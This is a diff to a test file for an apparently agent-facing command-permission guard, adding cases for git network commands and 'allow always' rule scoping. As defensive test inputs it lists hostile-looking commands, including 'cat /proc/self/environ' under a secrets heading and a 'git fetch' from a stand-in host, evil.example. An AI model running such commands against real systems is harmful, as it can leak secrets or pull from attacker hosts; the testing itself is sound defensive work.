@@ -538,6 +538,8 @@ const COMMANDS: [string, Decision, P?][] = [
   ["curl -s https://example.org/x", "ask", "W"],
   ["echo https://github.com/x", "allow", "W"],
   ["git submodule update --init", "ask"],
+  ["git lfs pull", "ask", "G"],
+  ["git send-email --to=x@y 0001.patch", "ask", "G"],
   // ---- secrets
   ["cat /proc/self/environ", "ask"],
   ["cat /proc/self/environ", "ask", "A"],
@@ -982,6 +984,11 @@ Deno.test("guard: allow always lifts every check that asked, and records only wh
   assert.equal(await ev(hz), "ask");
   p.addRule("allow", `Execute(${hz})`);
   assert.equal(await ev(hz), "allow");
+  // A network question (git reaches a remote) is lifted too, for that line.
+  assert.equal(await ev("git fetch origin"), "ask");
+  p.addRule("allow", "Execute(git fetch origin)");
+  assert.equal(await ev("git fetch origin"), "allow");
+  assert.equal(await ev("git fetch https://evil.example/x"), "ask");
   // A path rule recorded by "allow always" covers that path, not what lies beneath or beside it.
   p.addRule("allow", "Read(/etc/hosts)");
   assert.equal(p.decide({ type: "read", path: "/etc/hosts" }).decision, "allow");
